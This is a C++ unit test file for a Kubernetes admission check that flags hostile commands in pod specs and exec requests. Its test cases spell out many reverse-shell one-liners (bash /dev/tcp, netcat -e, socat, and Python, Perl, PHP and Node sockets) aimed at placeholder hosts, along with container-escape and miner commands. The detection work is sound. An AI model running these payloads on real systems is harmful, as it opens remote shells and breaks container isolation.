// What the check `commands` finds, where it looks, and what it leaves alone.

#include <fmt/core.h>
#include <gtest/gtest.h>

#include "tests/unit/support/verdicts.h"

namespace tidewaiter {
namespace {

using Lines = std::vector<std::string>;

const char kAll[] = "params: {patterns: [reverseShell, networkTool, miner, escape, copy]}";

PolicySet Policies(const std::string& params = kAll) {
  return Load(PolicyText("p", "commands", params));
}

// What is found in `sh -c SCRIPT`: the end of the message, or nothing.
std::string InScript(const PolicySet& policies, const std::string& script) {
  const Lines lines = Violations(
      policies, CreateText("Pod", PodText(R"({"name":"a","image":"nginx","command":["sh","-c",)" +
                                          JsonText(script) + "]}")));
  std::string found;
  for (const std::string& line : lines) {
    const std::size_t holds = line.find(" holds ");
    EXPECT_NE(holds, std::string::npos) << line;
    found += (found.empty() ? "" : "; ") + line.substr(holds + 7);
  }
  return found;
}

std::string ExecText(const std::string& command) {
  return ReviewText({.operation = "CONNECT",
                     .kind = "PodExecOptions",
                     .sub_resource = "exec",
                     .object = R"({"container":"web","command":)" + command + "}"});
}

TEST(Commands, ReverseShells) {
  struct Case {
    std::string script;
    std::string want;
  };
  const PolicySet policies = Policies("params: {patterns: [reverseShell]}");
  for (const Case& c : {
           Case{"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "an interactive shell on /dev/tcp"},
           Case{"/bin/bash -l > /dev/tcp/198.51.100.7/4444 0<&1 2>&1",
                "/dev/tcp as input and output"},
           Case{"sh >& /dev/udp/c2.example.test/53 0>&1", "/dev/tcp as input and output"},
           Case{"bash < /dev/tcp/198.51.100.7/4444", "commands read from /dev/tcp"},
           Case{"exec 5<>/dev/tcp/198.51.100.7/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
                "commands read from /dev/tcp"},
           Case{"0<&196;exec 196<>/dev/tcp/198.51.100.7/4444; sh <&196 >&196 2>&196",
                "commands read from /dev/tcp"},
           Case{"nc -e /bin/sh 198.51.100.7 4444", "netcat with -e or -c"},
           Case{"nc 198.51.100.7 4444 -e/bin/sh", "netcat with -e or -c"},
           Case{"/usr/bin/ncat --sh-exec id 198.51.100.7 4444", "netcat with -e or -c"},
           Case{"busybox nc -lp 4444 -e sh", "netcat with -e or -c"},
           Case{"nc 198.51.100.7 4444 | /bin/sh | nc 198.51.100.7 4445",
                "a network client piped into a shell"},
           Case{"socat TCP:198.51.100.7:4444 EXEC:'bash -li',pty,stderr", "socat with exec"},
           Case{"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f",
                "an interactive shell on a descriptor"},
           Case{"mkfifo /tmp/s; /bin/sh < /tmp/s 2>&1 | openssl s_client -connect c2:443 > /tmp/s",
                "a named pipe and a network client"},
           Case{"python3 -c 'import socket,os,pty\ns=socket.socket()\ns.connect((\"h\",1))\n"
                "[os.dup2(s.fileno(),f) for f in(0,1,2)]\npty.spawn(\"sh\")'",
                "Python's socket and a shell"},
           Case{"perl -e 'use Socket;connect(S,$x);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
                "Perl's Socket and a shell"},
           Case{"php -r '$s=fsockopen(\"198.51.100.7\",4444);exec(\"sh <&3 >&3 2>&3\");'",
                "an interactive shell on a descriptor"},
           Case{"php -r '$s=fsockopen(\"h\",1);shell_exec(fgets($s));'",
                "PHP's fsockopen and a shell"},
           Case{"ruby -rsocket -e 'c=TCPSocket.new(\"h\",1);exec sprintf(\"sh\")'",
                "Ruby's TCPSocket and a shell"},
           Case{"lua -e \"s=require('socket').tcp();s:connect('h',1);os.execute('sh')\"",
                "Lua's socket and a shell"},
           Case{
               "node -e 'sh=require(\"child_process\").spawn(\"sh\");c=require(\"net\").connect(1);"
               "c.pipe(sh.stdin)'",
               "Node's net and a shell"},
           Case{"awk 'BEGIN{s=\"/inet/tcp/0/198.51.100.7/4444\"}'", "awk's network files"},
           Case{"pwsh -c '$c = New-Object System.Net.Sockets.TCPClient(\"h\",1)'",
                "PowerShell's TCPClient"},
       }) {
    EXPECT_EQ(InScript(policies, c.script), "a reverse shell (" + c.want + ")") << c.script;
  }
}

// What ordinary charts run.
TEST(Commands, VS13_HarmlessCommandsStaySilent) {
  for (const std::string script : {
           "until nc -z db 5432; do echo -e waiting; sleep 1; done",
           "while ! nc -zv -w 2 db 5432; do sleep 1; done; exec /app",
           "timeout 5 nc -vz db 5432 || exit 1",
           "until (echo > /dev/tcp/localhost/8080) 2>/dev/null; do sleep 1; done",
           "exec 3<>/dev/tcp/127.0.0.1/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
           "php -r 'exit(@fsockopen(\"db\", 3306) ? 0 : 1);'",
           "ruby -rsocket -e 'TCPSocket.new(\"db\", 5432).close'",
           "python -c 'import socket; socket.create_connection((\"db\", 5432))'",
           "python -c 'import socket, subprocess; print(socket.gethostname())'",
           "bash -ic 'python train.py 2>&1 | tee log'",
           "set -e; cp -a /src/. /dst/ >&2; exec sh /entrypoint.sh",
           "apt-get install -y netcat-openbsd",
           "curl -fsS http://localhost:8080/healthz",
           "tar cf - /data | gzip > /backup/data.tgz",
           "mount -t nfs server:/share /mnt",
           "docker build -t app . && docker push app",
           "chroot /var/lib/app /bin/app",
           "node -e 'require(\"net\").connect(5432, \"db\")'",
           "echo synchronize; launch --algo fast",
           "redis-cli --cluster create; --config=/etc/nc.conf",
           "/opt/nc/bin/server --telnet off",
       }) {
    EXPECT_EQ(InScript(Policies(), script), "") << script;
  }
}

TEST(Commands, NetworkToolsWhereACommandIsNamed) {
  struct Case {
    std::string script;
    std::string want;  // the tool, or nothing
  };
  const PolicySet policies = Policies("params: {patterns: [networkTool]}");
  for (const Case& c : {
           Case{"nmap -sS 10.0.0.0/8", "nmap"},
           Case{"cd /tmp && ./masscan -p80", "masscan"},
           Case{"if telnet db 25; then true; fi", "telnet"},
           Case{"x=$(nc db 5432)", "nc"},
           Case{"nc -z a 1; nc b 2", "nc"},
           Case{"nc -z a $(nc b 2)", "nc"},
           Case{"sudo -E tcpdump -i any", "tcpdump"},
           Case{"A=b timeout 3 socat - TCP:db:1", "socat"},
           Case{"sh -c 'exec ngrok tcp 22'", "ngrok"},
           Case{"ls | xargs -n1 nc db", "nc"},
           Case{"echo nmap", ""},
           Case{"cat /usr/share/nmap/x", ""},
           Case{"rm -f telnet", ""},
           Case{"nc -w 3 -z db 5432", ""},
           Case{"ncat -z db 1 || netcat -zv db 2", ""},
       }) {
    EXPECT_EQ(InScript(policies, c.script), c.want.empty() ? "" : "the network tool " + c.want)
        << c.script;
  }
  EXPECT_EQ(InScript(policies, "until (echo > /dev/tcp/db/5432); do sleep 1; done"),
            "bash's /dev/tcp");
}

TEST(Commands, MinersAndEscapes) {
  struct Case {
    std::string script;
    std::string want;
  };
  for (const Case& c : {
           Case{"x -o stratum+tcp://pool.example.test:3333", "a miner (the stratum protocol)"},
           Case{"x -o STRATUM2+SSL://pool.example.test", "a miner (the stratum protocol)"},
           Case{"cd /tmp; ./xmrig -c c.json", "a miner (the name of a miner)"},
           Case{"/opt/.x --donate-level 1", "a miner (the options of a miner)"},
           Case{"/opt/.x -a rx/0 -o pool:3333", "a miner (the options of a miner)"},
           Case{"nsenter -t 1 -m -u sh",
                "a way out of the container (nsenter into the node's first process)"},
           Case{"nsenter --mount=/proc/1/ns/mnt sh",
                "a way out of the container (nsenter into the node's first process)"},
           Case{"chroot /host crictl ps",
                "a way out of the container (chroot into the node's file system)"},
           Case{"echo /cmd > $d/release_agent",
                "a way out of the container (the release_agent of a cgroup)"},
           Case{"echo '|/x' > /proc/sys/kernel/core_pattern",
                "a way out of the container (the core_pattern of the kernel)"},
           Case{"insmod /x.ko", "a way out of the container (a kernel module)"},
           Case{"mount -o rw /dev/sda1 /mnt", "a way out of the container (the node's disk)"},
           Case{"docker -H unix:///s run -it -v /:/host alpine",
                "a way out of the container (a container that has the node)"},
       }) {
    EXPECT_EQ(InScript(Policies("params: {patterns: [miner, escape]}"), c.script), c.want)
        << c.script;
  }
}

TEST(Commands, VS04_EveryPlaceWhereACommandHides) {
  const std::string bad = R"(["sh","-c","bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"])";
  struct Case {
    std::string container;  // its members
    std::string field;
  };
  const std::vector<Case> cases = {
      {R"("command":)" + bad, "command[2]"},
      {R"("args":)" + bad, "args[2]"},
      {R"("command":["/entrypoint","--"],"args":)" + bad, "args[2]"},
      {R"("lifecycle":{"postStart":{"exec":{"command":)" + bad + "}}}",
       "lifecycle.postStart.exec.command[2]"},
      {R"("lifecycle":{"preStop":{"exec":{"command":)" + bad + "}}}",
       "lifecycle.preStop.exec.command[2]"},
      {R"("livenessProbe":{"exec":{"command":)" + bad + "}}", "livenessProbe.exec.command[2]"},
      {R"("readinessProbe":{"exec":{"command":)" + bad + "}}", "readinessProbe.exec.command[2]"},
      {R"("startupProbe":{"exec":{"command":)" + bad + "}}", "startupProbe.exec.command[2]"},
      {R"("env":[{"name":"A","value":"x"},{"name":"B","value":"bash -i >& /dev/tcp/c2/4444"}])",
       "env[1].value"},
  };
  const PolicySet policies = Policies("params: {patterns: [reverseShell]}");
  for (const Case& c : cases) {
    for (const Place& place : PlacesOf(R"({"name":"bad","image":"nginx",)" + c.container + "}")) {
      const Lines lines = Violations(policies, CreateText(place.kind, place.spec));
      ASSERT_EQ(lines.size(), 1U) << place.path << " " << c.field;
      EXPECT_TRUE(lines[0].starts_with(place.path + "." + c.field + "|bad|")) << lines[0];
    }
  }
  EXPECT_EQ(Violations(policies, ExecText(bad)),
            Lines{"command[2]||the command of this exec holds a reverse shell (an interactive "
                  "shell on /dev/tcp)"});
}

TEST(Commands, VS04_TheImageIsTheFirstWordWhereThereIsNoCommand) {
  const auto found = [](const std::string& container) {
    return Violations(Policies("params: {patterns: [reverseShell, networkTool]}"),
                      CreateText("Pod", PodText(container)));
  };
  EXPECT_EQ(
      found(R"({"name":"side","image":"docker.io/alpine/socat:1.8@sha256:0",)"
            R"("args":["TCP:198.51.100.7:4444","EXEC:/bin/sh"]})"),
      (Lines{"spec.containers[0].image|side|the command of container \"side\" holds a reverse "
             "shell (socat with exec)",
             "spec.containers[0].image|side|the command of container \"side\" holds the "
             "network tool socat"}));
  EXPECT_EQ(found(R"({"name":"side","image":"raesene/ncat"})"),
            Lines{"spec.containers[0].image|side|the command of container \"side\" holds the "
                  "network tool ncat"});
  EXPECT_EQ(found(R"({"name":"side","image":"alpine/socat","command":["sleep","1"]})"), Lines{});
}

TEST(Commands, VS04_VariablesAsTheKubeletReplacesThem) {
  struct Case {
    std::string members;
    std::string field;  // of the one violation; empty for none
  };
  const std::string tail = R"j({"name":"T","value":"-e /bin/sh c2 4444"})j";
  const std::vector<Case> cases = {
      {R"j("env":[)j" + tail + R"j(],"command":["sh","-c","nc $(T)"])j", "command[2]"},
      {R"j("env":[{"name":"A","value":"nc "},{"name":"B","value":"-e sh c2 1"}],)j"
       R"j("command":["sh","-c","$(A)$(B)"])j",
       "command[2]"},
      {R"j("env":[{"name":"A","value":"-e"},{"name":"B","value":"$(A) sh c2 1"}],"args":["nc","$(B)"])j",
       "args[0]"},
      // Escaped; not known; known only further down; from elsewhere; defined anew.
      {R"j("env":[)j" + tail + R"j(],"command":["sh","-c","nc $$(T)"])j", ""},
      {R"j("env":[)j" + tail + R"j(],"command":["sh","-c","nc $(U)"])j", ""},
      {R"j("env":[{"name":"B","value":"nc $(T)"},)j" + tail + R"j(],"command":["sh","-c","$(B)"])j",
       ""},
      {R"j("env":[)j" + tail + R"j(,{"name":"T","valueFrom":{}}],"command":["sh","-c","nc $(T)"])j",
       ""},
      {R"j("env":[)j" + tail + R"j(,{"name":"T","value":"-z"}],"command":["sh","-c","nc $(T)"])j",
       ""},
      // Not closed, and a dollar at the end.
      {R"j("env":[)j" + tail + R"j(],"command":["sh","-c","nc $(T","$"])j", ""},
      // A probe has the value as written; a hook has no variables.
      {R"j("env":[)j" + tail + R"j(],"livenessProbe":{"exec":{"command":["nc","$(T)"]}})j",
       "livenessProbe.exec.command[0]"},
      {R"j("env":[)j" + tail + R"j(],"lifecycle":{"preStop":{"exec":{"command":["nc","$(T)"]}}})j",
       ""},
  };
  const PolicySet policies = Policies("params: {patterns: [reverseShell]}");
  for (const Case& c : cases) {
    Lines fields;
    for (const std::string& line : Violations(
             policies,
             CreateText("Pod", PodText(R"j({"name":"a","image":"nginx",)j" + c.members + "}")))) {
      fields.push_back(line.substr(0, line.find('|')));
    }
    const Lines want = c.field.empty() ? Lines{} : Lines{"spec.containers[0]." + c.field};
    EXPECT_EQ(fields, want) << c.members;
  }
}

TEST(Commands, VS22_WhatIsTooLongIsFoundAndNotSkipped) {
  const auto found = [](const std::string& container) {
    return Violations(
        Policies("params: {patterns: [reverseShell]}"),
        CreateText("Pod", PodText(R"({"name":"a","image":"nginx",)" + container + "}")));
  };
  const std::string long_text(70'000, 'x');
  const Lines too_long = {
      "spec.containers[0].command[1]|a|the command of container \"a\" is too long to be read to "
      "its "
      "end"};
  EXPECT_EQ(found(R"("command":["sh",")" + long_text + R"("])"), too_long);
  EXPECT_EQ(found(R"("command":["sh",")" + long_text + R"( nc -e sh c2 1"])"), too_long);
  EXPECT_EQ(found(R"("command":["sh",")" + long_text.substr(0, 60'000) + R"("])"), Lines{});
  // Many texts, none of them too long.
  std::string env;
  for (int i = 0; i < 10'000; ++i) {
    env += fmt::format(R"({}{{"name":"V{}","value":"{}"}})", i == 0 ? "" : ",", i,
                       long_text.substr(0, 90));
  }
  EXPECT_EQ(found(R"("env":[)" + env + "]"), Lines{});
  std::string many;
  for (int i = 0; i < 20; ++i)
    many += R"(,{"name":"b","image":"x","args":[")" + long_text.substr(0, 60'000) + "\"]}";
  EXPECT_EQ(Violations(Policies("params: {patterns: [reverseShell]}"),
                       CreateText("Pod", PodText(R"({"name":"a"})" + many)))
                .size(),
            1U);
}

// Variables that double each other must not grow without end.
TEST(Commands, VS22_VariablesThatGrow) {
  std::string env = R"j({"name":"V0","value":"xxxxxxxxxxxxxxxx"})j";
  for (int i = 1; i < 64; ++i) {
    env += fmt::format(R"j(,{{"name":"V{}","value":"$(V{})$(V{})"}})j", i, i - 1, i - 1);
  }
  const std::string container =
      R"j({"name":"a","image":"nginx","command":["$(V63)"],"env":[)j" + env + "]}";
  const Lines lines = Violations(Policies("params: {patterns: [reverseShell]}"),
                                 CreateText("Pod", PodText(container)));
  ASSERT_FALSE(lines.empty());
  EXPECT_EQ(lines[0],
            "spec.containers[0].command[0]|a|the command of container \"a\" is too long to be read "
            "to its end");
  std::string open;
  for (int i = 0; i < 30'000; ++i) open += "$(";
  EXPECT_EQ(InScript(Policies(), open), "");
}

TEST(Commands, B54_B55_Exec) {
  struct Case {
    std::string command;
    std::string want;
  };
  for (const Case& c : {
           Case{R"(["nc","-e","/bin/sh","203.0.113.66","4444"])",
                "a reverse shell (netcat with -e or -c)"},
           Case{R"(["nsenter","-t","1","-m","sh"])",
                "a way out of the container (nsenter into the node's first process)"},
           Case{R"(["tar","-xmf","-","-C","/tmp"])", "the copy of files into the container"},
           Case{R"(["tar","cf","-","/etc/passwd"])", "the copy of files out of the container"},
           Case{R"(["sh","-c","tar cf - /etc | tail -c+1"])",
                "the copy of files out of the container"},
           Case{R"(["tar","czf","/backup.tgz","/data"])", ""},
           Case{R"(["sh"])", ""},
           Case{R"(["env","-i","bash"])", ""},
           Case{R"(["python3","-c","import pty"])", ""},
           Case{R"([" sh"])", ""},
           Case{R"(["ｓｈ"])", ""},
           Case{"[]", ""},
           Case{"null", ""},
       }) {
    const Lines lines = Violations(Policies("params: {patterns: [reverseShell, escape, copy]}"),
                                   ExecText(c.command));
    EXPECT_EQ(lines, c.want.empty() ? Lines{}
                                    : Lines{fmt::format(
                                          "command[0]||the command of this exec holds {}", c.want)})
        << c.command;
  }
  EXPECT_EQ(Violations(Policies(), ExecText(R"([1])")),
            Lines{"refused: command[0]: expected a string, got a number"});
}

TEST(Commands, B57_AnUpdateBringsInOnlyWhatIsNew) {
  const std::string old = R"({"name":"a","command":["nc","-e","sh","c2","1"]})";
  const std::string other = R"({"name":"b","command":["nc","-e","sh","c2","1"]})";
  const PolicySet policies = Policies("params: {patterns: [reverseShell]}");
  EXPECT_EQ(VerdictOfUpdate(policies, "Deployment", PodText(old), PodText(old + "," + other)),
            (Lines{"audit p spec.template.spec.containers[0].command[0] unchanged",
                   "deny p spec.template.spec.containers[1].command[0]"}));
  EXPECT_EQ(VerdictOfUpdate(policies, "Pod", PodText(old),
                            PodText(R"({"name":"a","command":["nc","-e","sh","c3","1"]})")),
            Lines{"deny p spec.containers[0].command[0]"});
}

TEST(Commands, NeverShowsWhatWasWritten) {
  const Lines lines =
      Violations(Policies(),
                 CreateText("Pod", PodText(R"({"name":"a","command":["sh","-c",)"
                                           R"("PASSWORD=canary nc -e sh canary.example 4444"]})")));
  ASSERT_EQ(lines.size(), 2U);
  for (const std::string& line : lines) EXPECT_EQ(line.find("canary"), std::string::npos) << line;
}

TEST(Commands, OwnExpressions) {
  const PolicySet policies =
      Policies(R"(params: {extra: [{name: our old deployer, expression: "\\bdeploy-v[0-9]\\b"}]})");
  EXPECT_EQ(InScript(policies, "x && deploy-v1 --all"), "our old deployer");
  EXPECT_EQ(InScript(policies, "deploy-v10"), "");
  for (const auto& [params, want] :
       {std::pair("params: {extra: [{name: a, expression: \"(\"}]}",
                  "no regular expression of RE2: missing ): ("),
        std::pair("params: {patterns: []}",
                  "neither patterns nor extra: this policy would find nothing"),
        std::pair("params: {patterns: [reverseShel]}",
                  "unknown pattern \"reverseShel\"; did you mean \"reverseShell\"?")}) {
    Diagnostics diagnostics;
    const SourceFile file{"p.yaml", PolicyText("p", "commands", params)};
    EXPECT_FALSE(ParsePolicies({&file, 1}, ShippedChecks(), diagnostics)) << params;
    EXPECT_NE(diagnostics.Render().find(want), std::string::npos) << diagnostics.Render();
  }
}

}  // namespace
}  // namespace tidewaiter
